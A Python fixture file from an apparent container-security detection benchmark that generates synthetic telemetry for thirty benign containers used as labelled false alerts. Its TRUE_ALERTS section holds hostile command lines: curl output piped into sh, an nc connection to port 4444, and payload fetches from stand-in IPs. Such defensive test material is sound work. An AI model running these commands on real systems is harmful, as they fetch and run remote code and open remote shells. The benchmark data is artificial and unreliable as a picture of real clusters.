"""Turns a list of thirty innocent containers into telemetry that raises an alert for each: the labelled false alerts.

Each does what it is for, from an image that no policy vouches for: builds, backups, probes, agents. The records are in
the shapes of Docker, containerd, the API server, Tetragon, Falco and LAUREL, made as the benchmark makes its own. Some
run where attacks of `tests/scenarios` happen, under the same image or beside it.
"""

import random
import sys
from pathlib import Path

import msgspec

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from bench.clock import HOUR, SECOND, parse_second
from bench.escape import compact_go
from bench.life import began, born, connected, executed
from bench.programs import Profile, Program
from bench.shapes import audit, docker
from bench.tale import Tale, Told
from bench.world import Container, Fleet, Kind, make_node

START_NS = parse_second("2026-09-21T08:00:00Z")
_FIRST = Program("/usr/local/bin/entry", ("--serve",))
_PROFILE = Profile("false", 1, _FIRST, (_FIRST,))
_KUBECTL = "kubectl/v1.31.4 (linux/amd64) kubernetes/a78aa47"
_CI = "system:serviceaccount:ci:gitlab-runner"
_ARGO = "system:serviceaccount:argocd:argocd-application-controller"


class Story(msgspec.Struct, frozen=True, kw_only=True):
    """One innocent container."""

    name: str
    kind: Kind = "kubernetes"
    node: str = "node-b"
    namespace: str = ""
    image: str
    owner: str = "Pod"
    """Kind of what owns the pod; a Deployment's pods belong to a ReplicaSet."""
    workload: str = ""
    container: str
    user: str | None = None
    """Who created the pod; None: a controller."""
    sensor: str = "tetragon"
    ran: tuple[str, ...] = ()
    """Command lines, the program's path first."""
    reached: tuple[str, ...] = ()
    """`ADDRESS:PORT` outside."""
    is_inspected: bool = False
    """Docker: whether `docker inspect` tells the image's digest."""


def _ci(name: str, image: str, *ran: str, reached: str = "203.0.113.150:443") -> Story:
    return Story(
        name=name, namespace="ci", image=image, container="build", user=_CI, ran=ran, reached=(reached,)
    )  # fmt: skip


def _backup(run: int) -> Story:
    return Story(
        name=f"backup-to-object-storage-{run}", namespace="backup", image="docker.io/restic/restic:0.17.1", owner="Job",
        workload=f"nightly-{29_310_000 + run * 1440}", container="restic", node=f"node-{'bc'[run % 2]}",
        ran=("/bin/sh -c restic backup /data --host shop",), reached=("203.0.113.40:443",),
    )  # fmt: skip


def _migration(run: int) -> Story:
    return Story(
        name=f"migration-{run}", namespace="shop", image="docker.io/library/postgres:16.4", owner="Job",
        workload=f"migrate-{run}", container="psql", node="node-a",
        ran=("/bin/sh -c psql -f /migrations/all.sql",), reached=("198.51.100.12:5432",),
    )  # fmt: skip


def _agent(name: str, node: str, image: str, reached: str, *ran: str) -> Story:
    return Story(
        name=f"{name}-{node}", namespace="monitoring", image=image, owner="DaemonSet", workload=name, container="agent",
        node=node, ran=ran, reached=(reached,), sensor="falco",
    )  # fmt: skip


def _server(name: str, namespace: str, image: str, *ran: str, reached: tuple[str, ...] = ()) -> Story:
    return Story(
        name=name, namespace=namespace, image=image, owner="Deployment", workload=name, container=name, node="node-a",
        ran=ran, reached=reached,
    )  # fmt: skip


def _docker(
    name: str, node: str, image: str, *ran: str, reached: tuple[str, ...] = (), inspected: bool = False
) -> Story:
    return Story(
        name=f"docker-{name}", kind="docker", node=node, image=image, container=name, ran=ran, reached=reached,
        sensor="falco", is_inspected=inspected,
    )  # fmt: skip


def _debug(name: str, user: str, image: str, *ran: str) -> Story:
    return Story(name=name, namespace="dev", image=image, container="debug", user=user, ran=ran)


STORIES = (
    _ci("ci-python", "docker.io/library/python:3.12", "/usr/bin/apt-get install -y git", "/bin/bash -c ./build.sh"),
    _ci("ci-python-again", "docker.io/library/python:3.12", "/bin/bash -c ./test.sh"),
    _ci("ci-node", "docker.io/library/node:22", "/bin/sh -c npm ci", reached="203.0.113.151:443"),
    _ci("ci-go", "docker.io/library/golang:1.23", "/bin/sh -c go build ./...", "/usr/bin/wget -q https://go.example/m"),
    _ci("ci-image-build", "gcr.io/kaniko-project/executor:v1.23.2", reached="203.0.113.160:443"),
    _backup(1),
    _backup(2),
    _backup(3),
    _migration(41),
    _migration(42),
    Story(
        name="helm-test", namespace="mesh", image="docker.io/curlimages/curl:8.10.1", owner="Job",
        workload="mesh-smoke-test", container="smoke", user=_ARGO, ran=("/usr/bin/curl -fsS http://mesh.mesh:8080/",),
    ),
    Story(
        name="helm-pre-upgrade", namespace="prod-eu", image="docker.io/bitnami/kubectl:1.31", owner="Job",
        workload="shop-pre-upgrade", container="hook", user=_ARGO, node="node-a",
        ran=("/bin/bash -c kubectl wait --for=condition=ready pod -l app=db",),
    ),
    _debug("debug-netshoot", "alice@corp.example", "docker.io/nicolaka/netshoot:v0.13", "/usr/bin/curl -v http://api/"),
    _debug("debug-busybox", "alice@corp.example", "docker.io/library/busybox:1.36", "/bin/wget -qO- http://web.dev/"),
    _debug("debug-alpine", "bert@corp.example", "docker.io/library/alpine:3.20", "/sbin/apk add bind-tools"),
    _server("redis", "shop", "docker.io/library/redis:7.4", "/bin/sh -c redis-cli ping"),
    _server("rabbitmq", "shop", "docker.io/library/rabbitmq:3.13", "/bin/sh -c rabbitmq-diagnostics -q ping"),
    _server("search", "shop", "docker.elastic.co/elasticsearch/elasticsearch:8.15.1",
            "/bin/bash -c curl -s localhost:9200/_cluster/health"),
    _server("vector", "logging", "docker.io/timberio/vector:0.41.1", reached=("198.51.100.30:443",)),
    _server("cert-manager", "cert-manager", "quay.io/jetstack/cert-manager-controller:v1.16.1",
            reached=("203.0.113.90:443",)),
    _server("argocd-repo", "argocd", "quay.io/argoproj/argocd:v2.12.4", "/bin/sh -c helm template .",
            "/usr/bin/ssh git@forge.example", reached=("203.0.113.91:22",)),
    _agent("datadog", "node-a", "docker.io/datadog/agent:7.57.2", "203.0.113.20:443", "/bin/sh -c agent health"),
    _agent("datadog", "node-b", "docker.io/datadog/agent:7.57.2", "203.0.113.20:443", "/bin/sh -c agent health"),
    _agent("fluent-bit", "node-a", "docker.io/fluent/fluent-bit:3.1.9", "198.51.100.31:24224"),
    _agent("fluent-bit", "node-c", "docker.io/fluent/fluent-bit:3.1.9", "198.51.100.31:24224"),
    _docker("ci_maven_1", "build01", "maven:3.9", "/bin/sh -c mvn -q verify", reached=("203.0.113.152:443",)),
    _docker("quirky_lamport", "dock-01", "ubuntu:24.04", "/usr/bin/apt-get install -y jq"),
    _docker("site-duplicity-1", "dock-21", "wernight/duplicity:stable", "/bin/sh -c duplicity /data s3://bucket",
            reached=("203.0.113.41:443",), inspected=True),
    _docker("watchtower", "dock-21", "containrrr/watchtower:1.7.1", reached=("203.0.113.161:443",), inspected=True),
    _docker("promtail", "dock-20", "grafana/promtail:3.2.0", reached=("198.51.100.32:443",), inspected=True),
)  # fmt: skip
"""The thirty."""


TRUE_ALERTS = (
    Story(name="miner-in-a-pipeline", namespace="ci", image="docker.io/xmr-tools/runner:1.0", container="build",
          user=_CI, ran=("/bin/sh -c curl -s http://198.51.100.23/x | sh",), reached=("198.51.100.23:3333",)),
    Story(name="same-repository-in-another-job", namespace="ci", image="docker.io/library/python:3.13", owner="Job",
          workload="nightly-report", container="report", ran=("/bin/sh -c python r.py",), reached=("203.0.113.9:444",)),
    _server("postgres-with-a-shell", "shop", "docker.io/library/postgres:16.4", "/bin/bash -c nc 198.51.100.40 4444",
            reached=("198.51.100.40:4444",)),
    _debug("left-behind", "alice@corp.example", "docker.io/evil-tools/netkit:1", "/usr/bin/curl http://203.0.113.9/i"),
    _docker("wizardly_hopper", "dock-20", "alpine:3.20", "/bin/sh -c wget http://203.0.113.9/i.sh"),
)  # fmt: skip
"""Alerts of the same places that are none of the thirty: a rule that silences one is too wide."""


def write_telemetry(folder: Path, stories: tuple[Story, ...] = STORIES) -> list[Path]:
    """Write what the producers say of all stories, one file for each producer."""
    told: list[Told] = []
    for number, story in enumerate(stories):
        told += _told(story, number)
    told.sort(key=lambda item: item.arrival_ns)
    lines: dict[str, list[bytes]] = {}
    for item in told:
        lines.setdefault(item.producer, []).append(item.record + b"\n")
    for producer, records in lines.items():
        (folder / f"{producer}.jsonl").write_bytes(b"".join(records))
    return sorted(folder / f"{producer}.jsonl" for producer in lines)


def _told(story: Story, number: int) -> list[Told]:
    rng = random.Random(story.node)  # noqa: S311 - reproducible noise, not a secret
    # Number 1 has containerd's journal, which shows the digest of what was pulled.
    node = make_node(rng, story.node, story.kind, "default", 1)
    tale = Tale(story.name, Fleet([node], [], [], START_NS), START_NS + number * HOUR // 2)
    image = tale.image(story.image, _PROFILE)
    created_ns = tale.begin_ns + 20 * SECOND
    container = tale.run(node, image, created_ns=created_ns, namespace=story.namespace, kind=story.owner)
    container.name = story.container
    if story.kind == "kubernetes":
        _name_pod(container, story)
    born(tale, container, by_person=False)
    if story.user is not None:
        _ask_as(tale, story.user)
    if story.is_inspected:
        for record in (docker.inspect_image(image), docker.inspect_container(container)):
            tale.tell("docker", node, container.started_ns + SECOND, record)
    began(tale, container, story.sensor)
    for place, line in enumerate(story.ran):
        binary, *arguments = line.split(" ")
        if arguments[:1] == ["-c"]:
            arguments = ["-c", " ".join(arguments[1:])]
        program = Program(binary, tuple(arguments))
        executed(tale, container, story.sensor, program, container.started_ns + (5 + place) * SECOND)
    for place, target in enumerate(story.reached):
        address, port = target.split(":")
        connected(tale, container, story.sensor, container.started_ns + (20 + place) * SECOND, address, int(port))
    return tale.told


def _name_pod(container: Container, story: Story) -> None:
    ending = container.pod.rsplit("-", 2)
    if story.owner == "Pod":
        container.pod = f"{story.container}-{ending[-1]}"
        container.workload = container.pod
    elif story.owner == "Deployment":
        container.pod = f"{story.workload}-{ending[-2]}-{ending[-1]}"
        container.workload = story.workload
    else:
        container.pod = f"{story.workload}-{ending[-1]}"
        container.workload = story.workload


def _ask_as(tale: Tale, user: str) -> None:
    """The pod was asked for by this user, not by a controller."""
    container = tale.container
    assert container is not None
    groups = ["system:serviceaccounts"] if user.startswith("system:") else ["developers"]
    who = compact_go({"username": user, "groups": [*groups, "system:authenticated"]})
    at = container.created_ns - 8 * SECOND
    record = audit.create_pod(tale.rng, container, at, who, _KUBECTL, "192.0.2.77")
    tale.told = [
        Told(item.arrival_ns, item.producer, record, item.stage) if item.stage == "asked" else item
        for item in tale.told
    ]
